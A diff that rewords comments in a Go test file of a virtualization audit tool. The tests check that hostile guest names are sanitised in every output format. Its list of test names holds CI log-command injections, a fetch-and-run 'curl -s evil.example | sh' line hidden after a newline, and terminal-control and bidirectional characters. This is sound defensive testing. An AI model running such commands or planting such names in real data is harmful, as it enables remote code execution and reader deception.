@@ -16,7 +16,7 @@ import (
 	"github.com/virt-audit/virt-audit/rules"
 )
 
-// TestMain forgets which CI we may be run by: files are named by it.
+// TestMain unsets the variables of a CI, which change the names of files.
 func TestMain(m *testing.M) {
 	for _, name := range []string{"GITHUB_WORKSPACE", "CI_PROJECT_DIR"} {
 		_ = os.Unsetenv(name)
@@ -24,7 +24,7 @@ func TestMain(m *testing.M) {
 	m.Run()
 }
 
-// run audits documents with all baseline rules, as files of a folder "guests" would be.
+// run audits documents with all baseline rules, as files of a directory "guests".
 func run(t *testing.T, documents map[string]string, names ...string) []*audit.Result {
 	t.Helper()
 	cfg := &audit.Settings{
@@ -56,7 +56,7 @@ func baselineRules() []*audit.Rule {
 	return out
 }
 
-// options are those of a usual run.
+// options are those of a run without flags.
 func options() Options {
 	return Options{
 		Version: "1.2.3", Policy: "qemu-11.1", Profiles: []audit.Profile{audit.Baseline}, Rules: baselineRules(),
@@ -138,8 +138,9 @@ var hostileNames = []string{
 	"::stop-commands::x", "##[error]x", strings.Repeat("long ", 12) + "::error::x", "web\n$ curl -s evil.example | sh #", strings.Repeat("long ", 12) + "$ curl -s evil.example | sh", "c1\u009bcontrol", "\u2066isolate\u2069", "bom\ufeff", "\u200bzero width",
 }
 
-// hostile is a guest for each of hostileNames, which is its name, the path of its image, and part of its
-// file's name too. Each has findings, one of them waived with that text as the reason.
+// hostile returns a guest for each of hostileNames, which is its name, the path of its image, and
+// part of the name of its file. Each has findings; one of them is waived with that text as the
+// reason.
 func hostile(t *testing.T) []*audit.Result {
 	t.Helper()
 	documents := map[string]string{}
@@ -174,7 +175,7 @@ func escapeXML(text string) string {
 	return b.String()
 }
 
-// notices and problems are what a run says of no domain.
+// notices and problems are the results of a run that belong to no domain.
 func notices() []*audit.Notice {
 	var out []*audit.Notice
 	for _, text := range hostileNames {
@@ -222,9 +223,9 @@ func render(t *testing.T, format string, o Options, results []*audit.Result, not
 	return b.String()
 }
 
-// TestHostileNames drives hostile names through all formats: none puts out a control character, a mark that
-// turns the direction of writing, or a secret. Whether the text breaks out of a format is asked of a
-// reader of that format, in the tests beside it.
+// TestHostileNames prints hostile names in all formats. None may print a control character, a mark
+// that changes the direction of writing, or a secret. The tests of each format check with a reader
+// of that format that a name cannot break out of it.
 func TestHostileNames(t *testing.T) {
 	o := options()
 	o.ShowWaived, o.Verbose, o.Width = true, true, 80
@@ -245,7 +246,7 @@ func TestHostileNames(t *testing.T) {
 	}
 }
 
-// bad reports whether a terminal could be steered by the character, or a reader deceived.
+// bad reports whether the character could control a terminal or deceive a reader.
 func bad(r rune) bool {
 	return r < ' ' || r >= 0x7f && r <= 0x9f || r == 0x2028 || r == 0x2029 || r >= 0x202a && r <= 0x202e ||
 		r >= 0x2066 && r <= 0x2069 || r == 0x200b || r == 0x200e || r == 0x200f || r == 0xfeff
